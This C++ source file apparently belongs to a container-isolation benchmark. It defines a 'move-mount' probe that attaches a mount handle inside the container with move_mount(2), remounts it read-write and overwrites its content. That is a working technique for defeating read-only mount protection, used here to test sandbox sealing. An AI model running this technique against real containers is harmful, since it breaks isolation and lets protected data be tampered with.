// move-mount: attaches the mount of the handle in the container, where it can be remounted.
#include <fcntl.h>
#include <sys/mount.h>

#include "workloads/payloads/probe/attack.hpp"
#include "workloads/payloads/probe/probe.hpp"

namespace sealbench::probe {

const Probe& move_mount() {
  static const Probe kProbe{
      .name = "move-mount",
      .goal = Goal::content,
      .summary = "attaches the mount of the handle inside the container, remounts it read-write, then writes",
      .mechanism = "move_mount(2) attaches the root of a live anonymous namespace to the namespace of the caller",
      .attempt =
          [](Attack& attack) {
            if (attack.did("move_mount",
                           ::move_mount(attack.handle(), "", AT_FDCWD, kMountPoint, MOVE_MOUNT_F_EMPTY_PATH)) < 0) {
              return;
            }
            attack.did("mount", ::mount(nullptr, kMountPoint, nullptr, MS_REMOUNT | MS_BIND, nullptr));
            attack.overwrite(kMountPoint);
            ::umount2(kMountPoint, MNT_DETACH);
          },
  };
  return kProbe;
}

}  // namespace sealbench::probe
